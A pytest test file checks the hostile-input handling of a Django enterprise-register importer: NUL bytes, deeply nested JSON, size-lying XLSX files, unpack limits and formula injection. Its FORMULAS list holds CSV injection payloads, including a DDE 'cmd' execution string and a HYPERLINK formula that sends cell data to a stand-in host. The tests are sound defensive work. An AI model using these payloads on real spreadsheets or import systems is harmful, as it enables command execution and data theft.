"""Imports fed bad or hostile input: each bad cell or line is refused with a reason, the rest imported,
files past the limits refused whole, and nothing is left behind in the temp directory."""

import csv
import io
import json
import os
import signal
import tempfile
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from enterprises.importing.jobs import import_job_run
from enterprises.importing.pipeline import ImportRefused, enterprise_import
from enterprises.models import Enterprise, ImportJob
from tests.enterprises.test_import import HEADER, csv_bytes, good_row
from tests.factories import UserFactory, make_uscc, token_header

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_tasks")]

BULK = "/api/enterprises/bulk/"


@pytest.fixture
def system():
    """An integration account of another government system, with import rights only."""
    user = UserFactory(username="tax-bureau", is_staff=False)
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="enterprises", codename__in=["add_importjob"])
    )
    return token_header(user, "register:write")


def post_lines(client, auth, lines: list, **extra):
    body = "\n".join(line if isinstance(line, str) else json.dumps(line, ensure_ascii=False) for line in lines)
    return client.post(BULK, body, content_type="application/x-ndjson", **auth, **extra)


def bulk_result(client, auth, lines: list, django_capture_on_commit_callbacks) -> dict:
    """POST the lines, let the worker run the job, then read the result from the job's URL as a client would."""
    with django_capture_on_commit_callbacks(execute=True):
        response = post_lines(client, auth, lines)
    assert response.status_code == 202, response.content
    polled = client.get(response.json()["url"], **auth)
    assert polled.status_code == 200
    return polled.json()


# --- NUL characters --------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["企业名称", "联系电话", "注册资本(万元)", "企业标签", "统一社会信用代码"])
def test_a_nul_in_any_cell_refuses_that_cell_and_imports_the_other_rows(column):
    row = good_row(1)
    row[HEADER.index(column)] = row[HEADER.index(column)][:2] + "\x00" + row[HEADER.index(column)][2:]
    result = enterprise_import(source=io.BytesIO(csv_bytes([row, good_row(2)])))
    assert (result.added, result.refused) == (1, 1)
    [error] = result.errors
    assert (error.row, error.column) == (2, column)
    assert "空字符" in error.reason
    assert list(Enterprise.objects.values_list("uscc", flat=True)) == [make_uscc(2)]


def test_a_nul_far_into_a_large_file_refuses_only_its_row():
    rows = [good_row(n) for n in range(1, 3001)]
    rows[2500][HEADER.index("企业名称")] = "无锡\x00公司"
    result = enterprise_import(source=io.BytesIO(csv_bytes(rows)))
    assert (result.added, result.refused) == (2999, 1)
    assert (result.errors[0].row, result.errors[0].column) == (2502, "企业名称")


def test_a_nul_in_a_json_line_refuses_that_cell(client, system, django_capture_on_commit_callbacks):
    body = bulk_result(
        client,
        system,
        [{"uscc": make_uscc(1), "name": "无锡\u0000公司"}, {"uscc": make_uscc(2), "name": "无锡正常公司"}],
        django_capture_on_commit_callbacks,
    )
    assert (body["status"], body["added"], body["refused"]) == ("succeeded", 1, 1)
    [error] = body["errors"]
    assert (error["row"], error["column"]) == (1, "企业名称") and "空字符" in error["reason"]


# --- the API's JSON lines ---------------------------------------------------------------------------


def test_a_deeply_nested_json_line_is_refused_and_the_others_imported(
    client, system, django_capture_on_commit_callbacks
):
    nested = "[" * 20_000 + "]" * 20_000
    body = bulk_result(
        client,
        system,
        [
            {"uscc": make_uscc(1), "name": "无锡甲公司"},
            nested,
            f'{{"uscc": "{make_uscc(2)}", "name": {"[" * 5000 + "]" * 5000}}}',
            {"uscc": make_uscc(3), "name": {"a": {"b": 1}}},
            f'{{"uscc": "{make_uscc(4)}", "name": "无锡乙公司", "employees": {"9" * 5000}}}',
            {"uscc": make_uscc(5), "name": "无锡" * 40_000},
        ],
        django_capture_on_commit_callbacks,
    )
    assert (body["added"], body["refused"]) == (1, 5)
    reasons = {e["row"]: e["reason"] for e in body["errors"]}
    assert "嵌套过深" in reasons[2] and "嵌套过深" in reasons[3]
    assert "应为文字或数字" in reasons[4]
    assert "过长的数字" in reasons[5]
    assert "超过 64 KB" in reasons[6]
    assert list(Enterprise.objects.values_list("uscc", flat=True)) == [make_uscc(1)]


def test_the_api_import_runs_as_a_job_whose_url_gives_the_result(client, system, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = post_lines(client, system, [{"uscc": make_uscc(1), "name": "无锡排队公司"}])
    assert response.status_code == 202
    job = ImportJob.objects.get()
    assert response.json()["url"].endswith(f"{BULK}{job.pk}/") and response["Location"] == response.json()["url"]
    assert (job.status, job.source, len(callbacks)) == ("queued", "api", 1)
    waiting = client.get(response.json()["url"], **system).json()
    assert (waiting["status"], waiting["finished"]) == ("queued", False)
    import_job_run(job_id=job.pk)  # what the worker does
    done = client.get(response.json()["url"], **system).json()
    assert (done["status"], done["finished"], done["added"]) == ("succeeded", True, 1)
    assert "共 1 行：新增 1" in done["message"]


def test_another_account_cannot_read_a_jobs_result(client, system, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        url = post_lines(client, system, [{"uscc": make_uscc(1), "name": "无锡公司", "mobile": "12"}]).json()["url"]
    other = UserFactory(username="other-system", is_staff=False)
    other.user_permissions.add(Permission.objects.get(codename="add_importjob"))
    response = client.get(url, **token_header(other, "register:write"))
    assert response.status_code == 404


def test_a_body_over_the_limit_gets_413_with_a_reason(client, system, settings):
    settings.IMPORT_MAX_BYTES = 2000
    lines = [{"uscc": make_uscc(n), "name": f"无锡测试{n}有限公司"} for n in range(1, 60)]
    response = post_lines(client, system, lines)
    assert response.status_code == 413
    assert "超过" in response.json()["detail"] and "2,000" in response.json()["detail"]
    assert ImportJob.objects.count() == 0 and Enterprise.objects.count() == 0


# --- limits on files ---------------------------------------------------------------------------------


def test_a_file_with_more_rows_than_the_limit_is_refused_whole(settings):
    settings.IMPORT_MAX_ROWS = 3
    with pytest.raises(ImportRefused, match="超过 3 行"):
        enterprise_import(source=io.BytesIO(csv_bytes([good_row(n) for n in range(1, 6)])))
    assert Enterprise.objects.count() == 0


def test_a_file_with_more_columns_than_the_limit_is_refused_whole(settings):
    settings.IMPORT_MAX_COLUMNS = 12
    header = [*HEADER, *(f"备注{n}" for n in range(5))]
    with pytest.raises(ImportRefused, match="超过 12 列"):
        enterprise_import(source=io.BytesIO(csv_bytes([good_row(1) + [""] * 5], header=header)))


def test_the_admin_refuses_an_upload_over_the_limit(client, settings):
    settings.IMPORT_MAX_BYTES = 100
    client.force_login(UserFactory(username="importer", is_superuser=True))
    upload = SimpleUploadedFile("名录.csv", csv_bytes([good_row(n) for n in range(1, 5)]), content_type="text/csv")
    response = client.post(reverse("admin:enterprises_importjob_add"), {"file": upload, "encoding": ""})
    assert response.status_code == 200
    assert "文件过大" in response.content.decode()
    assert ImportJob.objects.count() == 0


def _xlsx_with(tmp_path: Path, *, dimension: str, extra_cells: str = "", last_row: str = "", rows=None) -> Path:
    """A real workbook whose sheet XML is then edited: its dimension, cells appended to the first row, and
    a row appended at the end."""
    book = Workbook()
    sheet = book.active
    sheet.append(["统一社会信用代码", "企业名称"])
    for row in rows or [[make_uscc(1), "无锡表格公司"]]:
        sheet.append(row)
    plain = tmp_path / "plain.xlsx"
    book.save(plain)
    path = tmp_path / "claims.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                start = text.index("<dimension ref=")
                end = text.index("/>", start) + 2
                text = text[:start] + f'<dimension ref="{dimension}"/>' + text[end:]
                if extra_cells:
                    first_row_end = text.index("</row>")
                    text = text[:first_row_end] + extra_cells + text[first_row_end:]
                text = text.replace("</sheetData>", last_row + "</sheetData>")
                data = text.encode()
            target.writestr(item, data)
    return path


@pytest.fixture
def deadline():
    """Fail (rather than hang the suite) when an import takes far longer than it should."""

    def expired(signum, frame):
        raise TimeoutError("the import did not finish in 60 s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


def test_an_xlsx_claiming_16384_columns_by_a_million_rows_imports_what_it_really_holds(tmp_path, deadline):
    # One cell in the sheet's very last corner makes Excel's own dimension claim the whole grid.
    corner = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    path = _xlsx_with(tmp_path, dimension="A1:XFD1048576", last_row=corner)
    assert path.stat().st_size < 10_000
    result = enterprise_import(source=path)
    assert (result.total_rows, result.added) == (1, 1)


def test_an_xlsx_whose_header_really_reaches_column_16384_is_refused(tmp_path, deadline):
    path = _xlsx_with(tmp_path, dimension="A1:XFD2", extra_cells='<c r="XFD1" t="inlineStr"><is><t>x</t></is></c>')
    with pytest.raises(ImportRefused, match="超过 100 列"):
        enterprise_import(source=path)


def test_an_xlsx_row_numbered_past_excel_s_last_row_is_refused(tmp_path, deadline):
    book = Workbook()
    sheet = book.active
    sheet.append(["统一社会信用代码", "企业名称"])
    sheet.cell(row=1_048_576, column=1, value=make_uscc(1))
    path = tmp_path / "far.xlsx"
    book.save(path)
    with zipfile.ZipFile(path) as source:
        xml = source.read("xl/worksheets/sheet1.xml").decode().replace('r="1048576"', 'r="99999999999"')
        xml = xml.replace('r="A1048576"', 'r="A99999999999"')
        members = {i.filename: source.read(i.filename) for i in source.infolist()}
    members["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)
    with pytest.raises(ImportRefused, match="1,048,576"):
        enterprise_import(source=path)


def test_an_xlsx_that_unpacks_past_the_limit_is_refused(tmp_path, settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 10_000
    rows = [[make_uscc(n), "无锡" + "很长的名字" * 30] for n in range(1, 200)]
    path = _xlsx_with(tmp_path, dimension="A1:B200", rows=rows)
    assert path.stat().st_size < 10_000
    with pytest.raises(ImportRefused, match="解压后"):
        enterprise_import(source=path)


# --- formula injection in the error report ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]  # fmt: skip


def test_the_error_report_never_hands_excel_a_formula(tmp_path):
    report = tmp_path / "errors.csv"
    rows = [good_row(n, 联系电话=value) for n, value in enumerate(FORMULAS, 1)]
    result = enterprise_import(source=io.BytesIO(csv_bytes(rows)), report=report)
    assert result.refused == len(FORMULAS)
    values = [line[2] for line in csv.reader(report.open(encoding="utf-8-sig", newline=""))][1:]
    assert values == ["'" + value.strip() for value in FORMULAS]


def test_the_admin_error_report_download_is_escaped(client, django_capture_on_commit_callbacks):
    client.force_login(UserFactory(username="importer", is_superuser=True))
    data = csv_bytes([good_row(1, 联系电话="=cmd|' /C calc'!A0"), good_row(2)])
    upload = SimpleUploadedFile("名录.csv", data, content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("admin:enterprises_importjob_add"), {"file": upload, "encoding": ""})
    job = ImportJob.objects.get()
    report = client.get(reverse("admin:enterprises_importjob_errors", args=[job.pk]))
    text = b"".join(report.streaming_content).decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and ",=cmd" not in text


# --- nothing left behind ------------------------------------------------------------------------------------


def _open_fds() -> int:
    return len(os.listdir("/proc/self/fd"))


def test_imports_leave_no_file_and_no_descriptor_behind(
    client, system, tmp_path, monkeypatch, django_capture_on_commit_callbacks
):
    spool = tmp_path / "tmp"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    lines = [
        {"uscc": make_uscc(1), "name": "无锡公司", "mobile": "13800001111"},
        {"uscc": "X", "mobile": "13800002222"},
    ]
    bulk_result(client, system, lines, django_capture_on_commit_callbacks)  # warm up connections and caches
    client.force_login(UserFactory(username="importer", is_superuser=True))
    before = _open_fds()
    for n in range(3):
        body = bulk_result(client, system, lines, django_capture_on_commit_callbacks)
        assert body["refused"] == 1
        upload = SimpleUploadedFile(f"名录{n}.csv", csv_bytes([good_row(1), good_row(2, 联系电话="1")]))
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("admin:enterprises_importjob_add"), {"file": upload, "encoding": ""})
        with pytest.raises(ImportRefused):
            enterprise_import(source=io.BytesIO(csv_bytes([good_row(3)] * 2, header=["企业名称"] * 10)))
        enterprise_import(source=io.BytesIO(csv_bytes([good_row(4, 联系电话="2")])))
    assert ImportJob.objects.filter(status="succeeded").count() >= 7
    assert _open_fds() == before
    assert list(spool.iterdir()) == []
